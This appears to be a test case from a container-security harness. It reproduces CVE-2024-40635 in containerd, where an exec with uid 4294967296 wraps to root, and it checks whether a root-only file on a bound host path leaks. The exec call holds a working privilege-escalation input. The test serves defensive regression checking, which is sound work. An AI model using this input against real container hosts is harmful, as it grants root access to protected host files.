"""The uid 4294967296 as an option wraps around to 0."""

from bypass import refused

SOURCE = "CVE-2024-40635: a large user id wraps around to root (containerd)"
WAY = "exec"
STOPPED = refused("user")


def attack(t):
    t.plant("/mnt/host/data/only-root", 0o600)
    t.bind("/mnt/host/data", "/x", "rbind", "ro")
    t.spec["process"]["user"] = {"uid": 1000, "gid": 1000}
    t.up()
    return t.leaked(t.call("exec", "-u", "4294967296:4294967296", t.id, "cat", "/x/only-root").text)
